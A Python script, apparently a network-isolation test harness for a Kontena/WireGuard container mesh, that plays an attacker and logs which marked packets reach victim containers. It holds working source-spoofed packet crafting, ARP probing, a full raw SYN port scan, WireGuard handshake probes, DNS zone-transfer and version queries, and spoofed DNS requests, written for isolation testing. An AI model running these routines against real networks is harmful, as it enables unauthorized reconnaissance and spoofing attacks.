"""An attacker in a container, and who watches the victims. Python's smallest set of modules is enough.

attack.py watch FILE [INTERFACE]   writes to FILE one line for each kind of IPv4 packet that comes in:
                                   "INTERFACE SOURCE DESTINATION PROTOCOL PORT plain|marked"
attack.py attack                   reads a plan from standard input, tries all that it can think of, and
                                   prints what it has found out, a line each; nothing found, nothing
                                   printed. Its packets carry a mark where they carry anything.

The plan, a literal of Python: own (its address), gateway, foreign_gateways, victims (addresses of other
networks), mesh (addresses of nodes in the mesh), hosts (addresses of hosts), peer (of its own network, on
another host), fellow (of its own network, and of others that it is not on; or ""), claimed (sources to
pretend), names (that it must not know), subnets (to look for reverse names in).
"""
import ast, fcntl, os, random, select, socket, struct, sys, threading, time

MARK = b"kontena-attack-mark"
PORTS = (22, 53, 80, 443, 2375, 7000, 7443, 9000, 51820)
WAIT = 1.5
found = set()


def report(line):
    if line not in found:
        found.add(line)
        print(line, flush=True)


def number(text):
    return struct.unpack("!I", socket.inet_aton(text))[0]


def text(value):
    return socket.inet_ntoa(struct.pack("!I", value))


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def ip_packet(source, to, protocol, payload):
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), random.randrange(65536), 0, 64, protocol, 0,
                       socket.inet_aton(source), socket.inet_aton(to))
    return head[:10] + struct.pack("!H", checksum(head)) + head[12:] + payload


def with_pseudo(source, to, protocol, payload):
    return checksum(socket.inet_aton(source) + socket.inet_aton(to) + struct.pack("!BBH", 0, protocol, len(payload)) + payload)


def udp_packet(source, to, port, payload, own_port=31337):
    body = struct.pack("!HHHH", own_port, port, 8 + len(payload), 0) + payload
    return ip_packet(source, to, 17, body[:6] + struct.pack("!H", with_pseudo(source, to, 17, body) or 0xFFFF) + body[8:])


def tcp_packet(source, to, port, flags=2, own_port=31337, payload=MARK):
    body = struct.pack("!HHIIBBHHH", own_port, port, random.randrange(1 << 32), 0, 0x50, flags, 65535, 0, 0) + payload
    return ip_packet(source, to, 6, body[:16] + struct.pack("!H", with_pseudo(source, to, 6, body)) + body[18:])


def echo_packet(source, to, kind=8):
    body = struct.pack("!BBHHH", kind, 0, 0, 4711, 1) + MARK
    return ip_packet(source, to, 1, body[:2] + struct.pack("!H", checksum(body)) + body[4:])


def kinds_of(source, to):
    """What may get through somewhere: beginnings, answers that nobody asked for, errors, other protocols."""
    yield echo_packet(source, to)
    yield echo_packet(source, to, 0)
    yield udp_packet(source, to, 7000, MARK)
    yield udp_packet(source, to, 4000, MARK, 53)
    yield tcp_packet(source, to, 7000)
    yield tcp_packet(source, to, 7000, 0x12)
    yield tcp_packet(source, to, 7000, 0x10)
    yield ip_packet(source, to, 1, struct.pack("!BBHI", 3, 1, checksum(struct.pack("!BBHI", 3, 1, 0, 0) + MARK), 0) + MARK)
    for protocol in (2, 4, 41, 47, 50, 132):
        inner = udp_packet(source, to, 7000, MARK) if protocol == 4 else MARK
        yield ip_packet(source, to, protocol, inner)


def interface_of(address):
    """An attacker may be on several networks."""
    asker = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    for _, name in socket.if_nameindex():
        if not name.startswith("eth"):
            continue
        found = fcntl.ioctl(asker, 0x8915, struct.pack("256s", name.encode()))[20:24]  # SIOCGIFADDR
        if socket.inet_ntoa(found) == address:
            return name
    sys.exit("no interface has the attacker's own address: nothing could be tried")


class Ether:
    """The attacker's own cable."""

    def __init__(self, own, gateway):
        self.name = interface_of(own)
        self.socket = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
        self.socket.bind((self.name, 3))
        self.mac = self.socket.getsockname()[4]
        self.heard = []
        self.lock = threading.Lock()
        threading.Thread(target=self.listen, daemon=True).start()
        self.gateway = self.resolve(gateway)
        if not self.gateway:
            sys.exit("the gateway does not answer ARP: nothing could be tried")

    def listen(self):
        while True:
            frame, where = self.socket.recvfrom(2048)
            if where[2] != 4:
                with self.lock:
                    self.heard.append(frame)

    def frames(self):
        with self.lock:
            taken, self.heard = self.heard, []
        return taken

    def send(self, to, packet, kind=0x0800):
        self.socket.send(to + self.mac + struct.pack("!H", kind) + packet)

    def ask(self, address, source="0.0.0.0"):
        body = struct.pack("!HHBBH6s4s6s4s", 1, 0x0800, 6, 4, 1, self.mac, socket.inet_aton(source), bytes(6), socket.inet_aton(address))
        self.send(b"\xff" * 6, body, 0x0806)

    def answers(self):
        """ARP answers: (address, hardware address)"""
        for frame in self.frames():
            if frame[12:14] == b"\x08\x06" and frame[20:22] == b"\0\x02":
                yield socket.inet_ntoa(frame[28:32]), frame[22:28]

    def resolve(self, address):
        for _ in range(10):
            self.ask(address)
            time.sleep(0.2)
            for who, mac in self.answers():
                if who == address:
                    return mac
        return None


# ------------------------------------------------------------------ as anybody may


def connects(where, ports=PORTS, silent_only=True):
    """What answers there at all; a refusal too tells that somebody is there."""
    waiting = {}
    for address in where:
        for port in ports:
            s = socket.socket()
            s.setblocking(False)
            s.connect_ex((address, port))
            waiting[s] = (address, port)
    end = time.monotonic() + WAIT
    while waiting and time.monotonic() < end:
        _, ready, _ = select.select([], list(waiting), [], 0.1)
        for s in ready:
            address, port = waiting.pop(s)
            error = s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)
            s.close()
            if error == 0 or (error == 111 and silent_only):
                report(f"tcp {address} {port} {'is open' if error == 0 else 'refuses'}")
    for s in waiting:
        s.close()


def datagrams(where):
    sockets = {}
    for address in where:
        for port in (53, 7000, 9, 51820):
            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            s.setblocking(False)
            s.connect((address, port))
            try:
                s.send(question("x.kontena.local") if port == 53 else MARK)
                sockets[s] = (address, port)
            except OSError:
                s.close()
    end = time.monotonic() + WAIT
    while sockets and time.monotonic() < end:
        ready, _, _ = select.select(list(sockets), [], [], 0.1)
        for s in ready:
            address, port = sockets.pop(s)
            try:
                s.recv(2000)
                report(f"udp {address} {port} answers")
            except ConnectionRefusedError:
                report(f"udp {address} {port} refuses")
            except OSError:
                pass
            s.close()


def scan(ether, own, where):
    """Each port of an address, by raw packets: what is open or refuses."""
    ether.frames()
    for port in range(1, 65536):
        ether.send(ether.gateway, tcp_packet(own, where, port, payload=b""))
        if port % 500 == 0:
            time.sleep(0.01)
    time.sleep(WAIT)
    answers = {"open": 0, "closed": 0}
    for frame in ether.frames():
        if frame[12:14] == b"\x08\0" and frame[23] == 6 and frame[26:30] == socket.inet_aton(where):
            flags = frame[14 + 20 + 13]
            kind = "open" if flags & 0x12 == 0x12 else "closed"
            answers[kind] += 1
            if kind == "open":
                report(f"tcp {where} {struct.unpack('!H', frame[34:36])[0]} is open")
    if answers["closed"]:
        report(f"tcp {where} refuses ports")


# ------------------------------------------------------------------ by raw packets


def spoof(ether, plan):
    fellow = ether.resolve(plan["fellow"]) if plan["fellow"] else None
    """Answers could not come here, so that who watches the others tells what arrived."""
    towards = plan["victims"] + plan["mesh"] + plan["foreign_gateways"] + [plan["peer"]]
    for source in plan["claimed"] + [plan["own"]]:
        for to in towards:
            if source == plan["own"] and to == plan["peer"]:
                continue  # that it may
            for packet in kinds_of(source, to):
                ether.send(ether.gateway, packet)
        for to in plan["victims"]:
            for packet in (echo_packet(source, to), udp_packet(source, to, 7000, MARK)):
                if fellow:
                    ether.send(fellow, packet)  # who may pass it on
                ether.send(b"\xff" * 6, packet)  # to whoever takes it
                ether.send(b"\x01\x00\x5e\x00\x00\x01", packet)
                ether.send(b"\x02\x42" + socket.inet_aton(to), packet)  # the address that Docker gives
        for to in plan["hosts"]:
            for packet in (echo_packet(source, to), udp_packet(source, to, 7000, MARK), udp_packet(source, to, 51820, MARK)):
                ether.send(ether.gateway, packet)


def knock_at_wireguard(plan, ether):
    """What looks like the beginning of a handshake, and rubbish, to each node's port."""
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    for to in plan["hosts"] + plan["mesh"] + plan["foreign_gateways"] + [plan["gateway"]]:
        for body in (b"\1\0\0\0" + os.urandom(144), b"\2\0\0\0" + os.urandom(88), b"\4\0\0\0" + os.urandom(60), MARK):
            try:
                s.sendto(body, (to, 51820))
            except OSError:
                pass
            for source in plan["claimed"]:
                ether.send(ether.gateway, udp_packet(source, to, 51820, body, 51820))


def arp(ether, plan):
    for to in plan["victims"] + plan["mesh"] + plan["foreign_gateways"] + plan["hosts"]:
        for source in ("0.0.0.0", plan["own"], plan["claimed"][0]):
            ether.ask(to, source)
    time.sleep(WAIT)
    for address, _ in ether.answers():
        if address != plan["own"]:
            report(f"arp {address} is answered")


# ------------------------------------------------------------------ names


def question(name, kind=1, family=1, number=None):
    labels = b"".join(bytes([len(part)]) + part.encode() for part in name.split(".") if part)
    head = struct.pack("!HHHHHH", random.randrange(65536) if number is None else number, 0x0100, 1, 0, 0, 0)
    return head + labels + b"\0" + struct.pack("!HH", kind, family)


def judge(plan, name, answer, where):
    code, count = answer[3] & 15, struct.unpack("!H", answer[6:8])[0]
    if code == 0 and count > 0:
        report(f"dns {where}: {name} has {count} answers")
    for victim in plan["victims"]:
        if socket.inet_aton(victim) in answer:
            report(f"dns {where}: {name} tells of {victim}")


def ask_all(plan, where, questions, patience=WAIT):
    """Many questions by UDP, some hundred open at a time. Returns how many were answered."""
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.connect((where, 53))
    answered, batch = 0, 200
    for start in range(0, len(questions), batch):
        opened = {}
        for index, (name, kind, family) in enumerate(questions[start:start + batch]):
            opened[index] = name
            try:
                s.send(question(name, kind, family, index))
            except OSError:
                pass
        end = time.monotonic() + patience
        while opened and time.monotonic() < end:
            ready, _, _ = select.select([s], [], [], 0.1)
            if not ready:
                continue
            try:
                answer = s.recv(4096)
            except OSError:
                continue
            name = opened.pop(struct.unpack("!H", answer[:2])[0], None)
            if name is not None:
                answered += 1
                judge(plan, name, answer, where)
        if not answered:
            break  # nobody there
    return answered


def by_stream(plan, where, name, kind, family=1):
    try:
        with socket.create_connection((where, 53), WAIT) as s:
            asked = question(name, kind, family)
            s.settimeout(WAIT)
            s.sendall(struct.pack("!H", len(asked)) + asked)
            size = s.recv(2)
            if len(size) == 2:
                judge(plan, f"{name} ({kind}, tcp)", s.recv(65535), where)
    except OSError:
        pass


def names(plan, ether):
    types = (1, 28, 5, 6, 2, 12, 15, 16, 33, 255, 252)
    questions = [(name, kind, 1) for name in plan["names"] for kind in types]
    reverse = []
    for subnet in plan["subnets"]:
        base = number(subnet.split("/")[0])
        for value in range(base, base + 1024):
            reverse.append(".".join(reversed(text(value).split("."))) + ".in-addr.arpa")
    own = [".".join(reversed(one.split("."))) + ".in-addr.arpa" for one in (plan["own"], plan["peer"], plan["fellow"])]
    questions += [(name, 12, 1) for name in reverse if name not in own]
    questions += [("version.bind", 16, 3), ("hostname.bind", 16, 3), ("id.server", 16, 3), ("version.server", 16, 3)]
    questions += [("kontena.local", 252, 1), ("kontena.local", 255, 1), ("local", 255, 1), ("*.kontena.local", 255, 1)]
    if not ask_all(plan, plan["gateway"], questions):
        report("its own resolver does not answer: nothing was tried")
    for name, kind, family in [("kontena.local", 252, 1), ("default.kontena.local", 252, 1), ("version.bind", 16, 3)]:
        by_stream(plan, plan["gateway"], name, kind, family)
    for where in plan["foreign_gateways"] + plan["mesh"] + plan["victims"]:
        if ask_all(plan, where, [(name, 1, 1) for name in plan["names"]], 0.7):
            report(f"dns {where} answers")
    # In the name of others: an answer would go to them, which those who watch them see, or come here.
    ether.frames()
    for source in plan["claimed"]:
        for where in [plan["gateway"]] + plan["foreign_gateways"]:
            for name in plan["names"][:5] + ["version.bind"]:
                ether.send(ether.gateway, udp_packet(source, where, 53, question(name)))
    time.sleep(WAIT)
    for frame in ether.frames():
        if frame[12:14] == b"\x08\0" and frame[23] == 17 and frame[34:36] == b"\0\x35":
            report(f"dns: an answer to {socket.inet_ntoa(frame[30:34])} came by")


def attack():
    plan = ast.literal_eval(sys.stdin.read())
    ether = Ether(plan["own"], plan["gateway"])
    arp(ether, plan)
    connects(plan["victims"] + plan["mesh"])
    connects(plan["foreign_gateways"])
    datagrams(plan["victims"] + plan["mesh"] + plan["foreign_gateways"])
    spoof(ether, plan)
    knock_at_wireguard(plan, ether)
    names(plan, ether)
    ether.frames()
    for where in plan["foreign_gateways"][:1] + plan["victims"][:1]:
        scan(ether, plan["own"], where)
    print("done", flush=True)
    return len(found) > 0


def watch(path, interface=None):
    s = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(0x0800))
    s.setsockopt(socket.SOL_SOCKET, 8, 8 << 20)
    if interface:
        s.bind((interface, 0x0800))
    seen = set()
    with open(path, "w") as out:
        out.write("watching\n")
        out.flush()
        while True:
            packet, where = s.recvfrom(65535)
            if where[2] == 4 or where[0] == "lo" or len(packet) < 20:
                continue
            size = (packet[0] & 15) * 4
            port = struct.unpack("!H", packet[size + 2:size + 4])[0] if packet[9] in (6, 17) and len(packet) >= size + 4 else 0
            line = (where[0], socket.inet_ntoa(packet[12:16]), socket.inet_ntoa(packet[16:20]), packet[9], port,
                    "marked" if MARK in packet else "plain")
            if line not in seen:
                seen.add(line)
                out.write(" ".join(map(str, line)) + "\n")
                out.flush()


if __name__ == "__main__":
    if sys.argv[1] == "watch":
        watch(*sys.argv[2:])
    sys.exit(attack())
